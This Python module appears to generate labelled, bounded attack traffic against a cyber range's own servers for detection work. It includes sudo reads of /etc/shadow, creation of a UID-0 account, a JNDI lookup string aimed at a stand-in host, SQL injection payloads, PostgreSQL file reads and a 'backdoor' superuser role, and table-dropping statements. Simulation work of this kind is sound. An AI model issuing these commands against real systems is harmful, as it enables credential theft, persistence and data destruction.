"""Bounded attacks on the range's own servers: each has a count, an end, and one label.

They run from addresses that honest people use in the same hours, and only through guarded sockets.
"""

from __future__ import annotations

import random
import urllib.parse
from collections.abc import Iterator

from actions import Action, Page, Request, Shell, Sql, Step
from attacks import ATTACKS, Attack
from payloads import CATALOG_QUERIES, INJECTIONS, LOGIN_NAMES, PATHS, SCRIPTS, TRAVERSAL
from town import AGENTS, EMPLOYEES, database_password, password

__all__ = ["plan"]


def plan(seed: int) -> list[Action]:
    """Return every attacking action of the recorded time, in order."""
    actions: list[Action] = []
    for attack in ATTACKS:
        dice = random.Random(f"{seed}/{attack.id}")
        actions += _PLANS[attack.kind](attack, dice)
    return sorted(actions, key=lambda action: action.at_s)


def _pages(
    attack: Attack,
    dice: random.Random,
    targets: list[str],
    *,
    gap_s: float,
    agent: str = "",
) -> Iterator[Page]:
    """Yield one request a connection, as most tools do, at a steady hurried pace."""
    at = attack.hour * 3600.0
    for target in targets:
        at += gap_s * dice.uniform(0.6, 1.4)
        yield Page(
            at_s=at,
            source=dice.choice(attack.sources),
            label=attack.id,
            agent=agent or AGENTS[int(attack.id[1:]) % len(AGENTS)],
            requests=(Request(target=target.encode()),),
        )


def _guesses(
    attack: Attack,
    dice: random.Random,
    pairs: list[tuple[str, tuple[str, ...]]],
    *,
    gap_s: float,
) -> Iterator[Shell]:
    at = attack.hour * 3600.0
    for user, words in pairs:
        at += gap_s * dice.uniform(0.6, 1.4)
        yield Shell(
            at_s=at,
            source=dice.choice(attack.sources),
            label=attack.id,
            user=user,
            wrong=words,
            goodbye="Bye Bye" if dice.random() < 0.5 else "",
        )


def _ssh_guessing(attack: Attack, dice: random.Random) -> Iterator[Action]:
    pairs = [(attack.users[0], (f"w{n}", f"x{n}")) for n in range(22)]
    yield from _guesses(attack, dice, pairs, gap_s=3.0)


def _ssh_enumeration(attack: Attack, dice: random.Random) -> Iterator[Action]:
    yield from _guesses(attack, dice, [(name, ("123456",)) for name in LOGIN_NAMES], gap_s=2.5)


def _ssh_spraying(attack: Attack, dice: random.Random) -> Iterator[Action]:
    pairs = [(user, (word,)) for word in ("Gov@2026", "Aa123456") for user in EMPLOYEES]
    yield from _guesses(attack, dice, pairs, gap_s=4.0)


def _ssh_slow(attack: Attack, dice: random.Random) -> Iterator[Action]:
    pairs = [(attack.users[0], (f"slow{n}",)) for n in range(42)]
    yield from _guesses(attack, dice, pairs, gap_s=170.0)


def _ssh_success(attack: Attack, dice: random.Random) -> Iterator[Action]:
    user = attack.users[0]
    guesses = list(_guesses(attack, dice, [(user, (f"g{n}",)) for n in range(34)], gap_s=3.0))
    yield from guesses
    steps = (
        Step(after_s=8, command="id"),
        Step(
            after_s=20,
            command="sudo /usr/bin/cat /etc/shadow",
            terminal=True,
            answers=("guess", password(user)),
        ),
        Step(
            after_s=50,
            command="sudo /usr/sbin/useradd --badname -o -u 0 svc.cache",
            terminal=True,
            answers=(password(user),),
        ),
    )
    yield Shell(
        at_s=guesses[-1].at_s + 4,
        source=attack.sources[0],
        label=attack.id,
        user=user,
        password=password(user),
        steps=steps,
        length_s=90,
    )


def _web_paths(attack: Attack, dice: random.Random) -> Iterator[Action]:
    targets = [*PATHS, *(f"{path}?v={n}" for n in range(3) for path in PATHS[5:35])]
    yield from _pages(attack, dice, targets, gap_s=0.7)


def _web_scanner(attack: Attack, dice: random.Random) -> Iterator[Action]:
    agents = (
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
        "sqlmap/1.8.4#stable (https://sqlmap.org)",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "masscan/1.3",
    )
    for n, agent in enumerate(agents):
        targets = dice.sample(PATHS, 24)
        for page in _pages(attack, dice, targets, gap_s=1.2, agent=agent):
            yield Page(
                at_s=page.at_s + 32 * n,
                source=page.source,
                label=attack.id,
                agent=agent,
                requests=page.requests,
            )
    for n, raw in enumerate(
        (
            b"\x16\x03\x01\x00\xee\x01\x00\r\n\r\n",
            b"\x03\x00\x00\x13\x0e\xe0\x00\r\n\r\n",
            b"CONNECT 127.66.6.6:443 HTTP/1.1\r\n\r\n",
            b"PROPFIND / HTTP/1.1\r\nHost: x\r\n\r\n",
        )
    ):
        yield Page(
            at_s=attack.hour * 3600.0 + 135 + 2 * n,
            source=attack.sources[0],
            label=attack.id,
            agent="",
            raw=raw,
        )


def _web_sqli(attack: Attack, dice: random.Random) -> Iterator[Action]:
    targets = [
        f"/api/share/search?kw={urllib.parse.quote(text)}" for _ in range(6) for text in INJECTIONS
    ]
    yield from _pages(attack, dice, targets, gap_s=2.0)


def _web_traversal(attack: Attack, dice: random.Random) -> Iterator[Action]:
    yield from _pages(attack, dice, [path for _ in range(6) for path in TRAVERSAL], gap_s=3.0)


def _web_scripts(attack: Attack, dice: random.Random) -> Iterator[Action]:
    targets = [
        f"/api/share/catalog/{n}?ref={urllib.parse.quote(text)}"
        for n in range(5)
        for text in SCRIPTS
    ]
    yield from _pages(attack, dice, targets, gap_s=4.0)
    agent = "${jndi:ldap://127.66.6.6:1389/b}"
    yield from _pages(attack, dice, ["/index.html"] * 8, gap_s=20.0, agent=agent)


def _web_stuffing(attack: Attack, dice: random.Random) -> Iterator[Action]:
    at = attack.hour * 3600.0
    for n in range(140):
        at += dice.uniform(1.0, 3.0)
        number = 100 + n
        secret = f"pw{number}" if n in {97, 131} else "Qwerty123"
        body = f"username=user{number}&password={secret}".encode()
        yield Page(
            at_s=at,
            source=dice.choice(attack.sources),
            label=attack.id,
            agent=AGENTS[6],
            requests=(Request(target=b"/login", method="POST", body=body),),
        )


def _web_bulk(attack: Attack, dice: random.Random) -> Iterator[Action]:
    targets = [f"/files/archive-{n:04d}.pdf" for n in range(1, 361)]
    yield from _pages(attack, dice, targets, gap_s=15.0, agent=AGENTS[1])


def _web_listing(attack: Attack, dice: random.Random) -> Iterator[Action]:
    folders = [
        "/open-data/",
        "/files/",
        "/backup/",
        "/img/",
        "/js/",
        "/css/",
        "/notice/",
        "/help/",
        "/fonts/",
    ]
    guesses = [
        f"{folder}{name}"
        for folder in folders
        for name in ("backup.zip", "old.tar.gz", "data.sql", "index.html.bak", "?C=M;O=A")
    ]
    yield from _pages(attack, dice, [*folders, *guesses], gap_s=2.0)


def _web_errors(attack: Attack, dice: random.Random) -> Iterator[Action]:
    words = [
        "' || (SELECT pg_sleep(3))::text || '",
        "'; SELECT pg_sleep(5)--",
        "' AND 1=(SELECT 1 FROM pg_sleep(4))--",
    ]
    targets = [
        f"/api/share/search?kw={urllib.parse.quote(word)}" for _ in range(14) for word in words
    ]
    yield from _pages(attack, dice, targets, gap_s=14.0)


def _db_session(
    attack: Attack,
    statements: list[str],
    *,
    at_s: float,
    database: str,
    cluster: str,
    gap_s: float,
    secret: str = "",
) -> Sql:
    user = attack.users[0]
    return Sql(
        at_s=at_s,
        source=attack.sources[0],
        label=attack.id,
        cluster=cluster,
        database=database,
        user=user,
        password=secret or database_password(user),
        application="psql",
        statements=tuple((gap_s * n, text) for n, text in enumerate(statements)),
    )


def _db_guessing(attack: Attack, dice: random.Random) -> Iterator[Action]:
    at = attack.hour * 3600.0
    for n in range(28):
        at += dice.uniform(2, 5)
        yield _db_session(
            attack, [], at_s=at, cluster="pay", database="pay", gap_s=0, secret=f"try{n}"
        )
    yield _db_session(attack, ["SELECT 1"], at_s=at + 4, cluster="pay", database="pay", gap_s=0)


def _db_catalog(attack: Attack, _dice: random.Random) -> Iterator[Action]:
    yield _db_session(
        attack,
        [*CATALOG_QUERIES, *CATALOG_QUERIES[2:9]],
        at_s=attack.hour * 3600.0,
        cluster="pay",
        database="pay",
        gap_s=4,
    )


def _db_probing(attack: Attack, _dice: random.Random) -> Iterator[Action]:
    statements = [
        "SELECT * FROM api_secret",
        "SELECT * FROM citizen_stub LIMIT 10",
        "SELECT * FROM exchange_log",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT pg_ls_dir('/')",
        "COPY catalog TO PROGRAM 'id'",
        "CREATE TABLE t(x text)",
        "COPY citizen_stub TO '/tmp/x'",
        "CREATE ROLE backdoor SUPERUSER LOGIN",
        "ALTER ROLE share_ro SUPERUSER",
        "GRANT pg_read_server_files TO share_ro",
        "SET ROLE dba_liu",
        "ALTER TABLE catalog OWNER TO share_ro",
        "DELETE FROM exchange_log",
        "DROP TABLE grant_list",
        "SELECT lo_import('/etc/shadow')",
        "CREATE EXTENSION dblink",
        "SELECT * FROM pg_authid",
        "UPDATE grant_list SET until = '2099-01-01'",
        "TRUNCATE catalog",
    ]
    yield _db_session(
        attack,
        statements + statements[:12],
        at_s=attack.hour * 3600.0,
        cluster="share",
        database="share",
        gap_s=7,
    )


def _db_destructive(attack: Attack, _dice: random.Random) -> Iterator[Action]:
    statements = [
        "SELECT count(*) FROM stage_import",
        "ALTER TABLE stage_import DISABLE TRIGGER ALL",
        "DELETE FROM stage_import",
        "TRUNCATE stage_import",
        "ALTER TABLE stage_import DROP COLUMN line",
        "DROP TABLE stage_import",
        "DROP TABLE payment",
        "DROP TABLE refund",
        "TRUNCATE notice",
        "ALTER TABLE notice DROP COLUMN state",
        "DROP DATABASE cert",
    ]
    yield _db_session(
        attack, statements, at_s=attack.hour * 3600.0, cluster="pay", database="pay", gap_s=9
    )


_PLANS = {
    "ssh_password_guessing": _ssh_guessing,
    "web_path_probing": _web_paths,
    "ssh_user_enumeration": _ssh_enumeration,
    "web_scanner": _web_scanner,
    "db_guessing_success": _db_guessing,
    "db_catalog_enumeration": _db_catalog,
    "ssh_password_spraying": _ssh_spraying,
    "web_sql_injection": _web_sqli,
    "web_path_traversal": _web_traversal,
    "web_script_and_jndi": _web_scripts,
    "web_credential_stuffing": _web_stuffing,
    "ssh_guessing_success_sudo": _ssh_success,
    "web_bulk_download": _web_bulk,
    "db_privilege_probing": _db_probing,
    "db_destructive_ddl": _db_destructive,
    "web_directory_listing": _web_listing,
    "web_server_errors": _web_errors,
    "ssh_slow_guessing": _ssh_slow,
}
